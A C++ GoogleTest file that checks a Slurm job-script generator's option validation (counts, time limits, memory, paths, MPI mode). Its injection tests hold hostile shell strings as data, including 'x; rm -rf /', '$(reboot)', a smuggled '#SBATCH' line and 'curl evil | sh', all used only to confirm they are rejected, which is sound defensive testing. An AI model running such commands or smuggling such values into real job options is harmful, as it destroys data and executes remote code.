// validate(): every bad option is rejected with a message that names the option and the value,
// and nothing that could break out of an #SBATCH line or a shell word gets through.
#include <gtest/gtest.h>

#include <string>

#include "kdbench/core/errors.h"
#include "kdbench/slurm/sbatch_script.h"

namespace kdbench::slurm {
namespace {

SlurmOptions good() {
  SlurmOptions o;
  o.grid_path = "grids/study.ini";
  o.kdbench_path = "/opt/kdbench/bin/kdbench";
  o.results_path = "results/study.h5";
  o.nodes = 2;
  o.gpus_per_node = 4;
  o.time = "12:00:00";
  return o;
}

// The ConfigError message, or "" when validate() accepted the options.
template <typename Edit>
std::string error_after(Edit edit) {
  SlurmOptions o = good();
  edit(o);
  try {
    validate(o);
  } catch (const ConfigError& e) {
    return e.what();
  }
  return "";
}

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

#define EXPECT_REJECTED(edit, option, value)                            \
  do {                                                                  \
    const std::string message = error_after([](SlurmOptions & o) edit); \
    EXPECT_TRUE(has(message, option)) << "message: " << message;        \
    EXPECT_TRUE(has(message, value)) << "message: " << message;         \
    EXPECT_EQ(message.find('\n'), std::string::npos) << message;        \
  } while (0)

TEST(SlurmValidate, AcceptsTypicalOptions) {
  EXPECT_EQ(error_after([](SlurmOptions&) {}), "");
  EXPECT_EQ(error_after([](SlurmOptions& o) {
              o.partition = "gpu-a100";
              o.account = "proj_kd.2024";
              o.qos = "high+";
              o.mem = "64G";
              o.modules = "gcc/12.2  openmpi/4.1.4 cuda/12.1";
              o.mpi = "none";
              o.mode = "array";
              o.shards = 8;
              o.gpus_per_node = 0;
            }),
            "");
}

TEST(SlurmValidate, RejectsCountsOutOfRange) {
  EXPECT_REJECTED({ o.nodes = -1; }, "--nodes", "'-1'");
  EXPECT_REJECTED({ o.nodes = 0; }, "--nodes", "from 1 to");
  EXPECT_REJECTED({ o.gpus_per_node = -2; }, "--gpus-per-node", "'-2'");
  EXPECT_REJECTED({ o.gpus_per_node = 65; }, "--gpus-per-node", "to 64");
  EXPECT_REJECTED({ o.cpus_per_task = 0; }, "--cpus-per-task", "'0'");
  EXPECT_REJECTED({ o.tasks_per_node = -1; }, "--ntasks-per-node", "'-1'");
  EXPECT_REJECTED({ o.signal_seconds = 0; }, "--signal-seconds", "'0'");
  EXPECT_REJECTED({ o.signal_seconds = 70000; }, "--signal-seconds", "65535");
  EXPECT_REJECTED({ o.max_requeues = -1; }, "--max-requeues", "'-1'");
}

TEST(SlurmValidate, RanksPerGpuAndDeviceNeedGpus) {
  EXPECT_EQ(error_after([](SlurmOptions& o) {
              o.ranks_per_gpu = 4;
              o.device = "auto";
            }),
            "");
  EXPECT_REJECTED({ o.ranks_per_gpu = -1; }, "--ranks-per-gpu", "'-1'");
  EXPECT_REJECTED({ o.ranks_per_gpu = 65; }, "--ranks-per-gpu", "'65'");
  EXPECT_REJECTED(
      {
        o.gpus_per_node = 0;
        o.ranks_per_gpu = 2;
      },
      "--ranks-per-gpu", "only with --gpus-per-node");
  EXPECT_REJECTED(
      {
        o.tasks_per_node = 8;
        o.ranks_per_gpu = 2;
      },
      "--ranks-per-gpu", "not both");
  EXPECT_REJECTED({ o.device = "gpu"; }, "--device", "'gpu'");
  EXPECT_REJECTED(
      {
        o.gpus_per_node = 0;
        o.device = "cuda";
      },
      "--device", "only with --gpus-per-node");
}

TEST(SlurmValidate, RejectsBadTimeLimits) {
  for (const char* bad : {"12h", "1:2:3:4", "10:60", "1:00:60", "2-24", "2-", "-5", "0", "00:00:00",
                          "1- 2", "", "12:00:00; reboot", "UNLIMITED"}) {
    SlurmOptions o = good();
    o.time = bad;
    if (o.time.empty()) continue;  // empty means "site default", tested below
    try {
      validate(o);
      ADD_FAILURE() << "accepted --time " << bad;
    } catch (const ConfigError& e) {
      EXPECT_TRUE(has(e.what(), "--time")) << e.what();
      EXPECT_TRUE(has(e.what(), std::string("'") + bad + "'")) << e.what();
      EXPECT_TRUE(has(e.what(), "[D-]HH:MM:SS")) << e.what();
    }
  }
  EXPECT_EQ(error_after([](SlurmOptions& o) { o.time = ""; }), "");
}

TEST(SlurmValidate, ParsesEveryTimeFormSlurmAccepts) {
  const std::pair<const char*, long long> cases[] = {
      {"90", 90 * 60},         {"05:30", 5 * 60 + 30}, {"12:00:00", 12 * 3600},
      {"48:00:00", 48 * 3600}, {"1-12", 36 * 3600},    {"2-03:04", 2 * 86400 + 3 * 3600 + 4 * 60},
      {"1-00:00:01", 86401}};
  for (const auto& [text, seconds] : cases) {
    long long got = -1;
    EXPECT_TRUE(parse_time_limit(text, &got)) << text;
    EXPECT_EQ(got, seconds) << text;
  }
}

TEST(SlurmValidate, SignalMustComeBeforeTheTimeLimit) {
  EXPECT_REJECTED(
      {
        o.time = "2";
        o.signal_seconds = 120;
      },
      "--signal-seconds", "--time 2");
  EXPECT_EQ(error_after([](SlurmOptions& o) {
              o.time = "3";
              o.signal_seconds = 120;
            }),
            "");
}

TEST(SlurmValidate, RejectsInjectionInNames) {
  EXPECT_REJECTED({ o.partition = "x; rm -rf /"; }, "--partition", "'x; rm -rf /'");
  EXPECT_REJECTED({ o.partition = "gpu\n#SBATCH --nodes=999"; }, "--partition", "#SBATCH");
  EXPECT_REJECTED({ o.account = "$(reboot)"; }, "--account", "$(reboot)");
  EXPECT_REJECTED({ o.account = "a b"; }, "--account", "'a b'");
  EXPECT_REJECTED({ o.qos = "`id`"; }, "--qos", "`id`");
  EXPECT_REJECTED({ o.qos = "normal'"; }, "--qos", "letters, digits");
  EXPECT_REJECTED({ o.job_name = "kd|tee"; }, "--job-name", "kd|tee");
}

TEST(SlurmValidate, RejectsBadMemory) {
  EXPECT_REJECTED({ o.mem = "16GB"; }, "--mem", "'16GB'");
  EXPECT_REJECTED({ o.mem = "0"; }, "--mem", "'0'");
  EXPECT_REJECTED({ o.mem = "-4G"; }, "--mem", "'-4G'");
  EXPECT_REJECTED({ o.mem = "4G;id"; }, "--mem", "'4G;id'");
  EXPECT_REJECTED({ o.mem = "lots"; }, "--mem", "e.g. 16G");
  EXPECT_EQ(error_after([](SlurmOptions& o) { o.mem = "4000M"; }), "");
  EXPECT_EQ(error_after([](SlurmOptions& o) { o.mem = "2048"; }), "");
}

TEST(SlurmValidate, RejectsInjectionInModules) {
  EXPECT_REJECTED({ o.modules = "gcc/12; curl evil | sh"; }, "--modules", "'gcc/12;'");
  EXPECT_REJECTED({ o.modules = "cuda $(id)"; }, "--modules", "'$(id)'");
  EXPECT_REJECTED({ o.modules = "ok && reboot"; }, "--modules", "'&&'");
  EXPECT_REJECTED({ o.modules = "mpi\"x"; }, "--modules", "module names");
}

TEST(SlurmValidate, RejectsUnknownMpiAndMode) {
  EXPECT_REJECTED({ o.mpi = "pmi2"; }, "--mpi", "pmix (srun --mpi=pmix) or none (mpirun)");
  EXPECT_REJECTED({ o.mpi = ""; }, "--mpi", "''");
  EXPECT_REJECTED({ o.mode = "batch"; }, "--mode", "mpi or array");
  EXPECT_REJECTED({ o.shards = 4; }, "--shards", "only with --mode array");
  EXPECT_REJECTED({ o.mode = "array"; }, "--shards", "'0'");
  EXPECT_REJECTED(
      {
        o.mode = "array";
        o.shards = 3;
        o.results_path = "";
      },
      "--results", "required with --mode array");
}

TEST(SlurmValidate, RejectsBadPaths) {
  EXPECT_REJECTED({ o.grid_path = ""; }, "grid file", "missing");
  EXPECT_REJECTED({ o.kdbench_path = "build/kdbench"; }, "kdbench binary", "absolute path");
  EXPECT_REJECTED({ o.grid_path = "a\nb.ini"; }, "grid file", "line breaks");
  EXPECT_REJECTED({ o.log_dir = "my logs"; }, "--log-dir", "'my logs'");
  EXPECT_REJECTED({ o.log_dir = "logs/%u"; }, "--log-dir", "#SBATCH --output");
  EXPECT_REJECTED({ o.log_dir = ""; }, "--log-dir", "non-empty");
}

}  // namespace
}  // namespace kdbench::slurm
